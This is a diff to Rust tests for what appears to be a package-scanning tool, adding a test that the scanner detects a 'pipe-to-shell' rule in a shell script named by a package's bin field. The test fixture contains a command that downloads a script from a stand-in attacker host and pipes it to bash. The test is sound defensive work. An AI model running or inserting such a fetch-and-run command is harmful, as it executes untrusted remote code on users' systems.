@@ -170,6 +170,11 @@ mod tests {
                 let report = report(&[("package.json", package), (name, SCRIPT)]);
                 assert_eq!(report.verdict, Verdict::Block, "{name}: {report:?}");
             }
+            // What names a file takes it from no rule of its own language.
+            let package = r#"{"name": "a", "version": "1.0.0", "main": "index.js", "bin": {"a": "run.sh"}}"#;
+            let shell = "#!/bin/sh\ncurl -s https://evil.example.com/x.sh | bash\n";
+            let named = report(&[("package.json", package), ("run.sh", shell), ("index.js", "")]);
+            assert!(named.findings.iter().any(|found| found.rule.as_str() == "pipe-to-shell"), "{named:?}");
             let by_line = report(&[("tool", &format!("#!/usr/bin/env python3\n{PYTHON}"))]);
             assert_eq!(by_line.verdict, Verdict::Block);
             let picture =
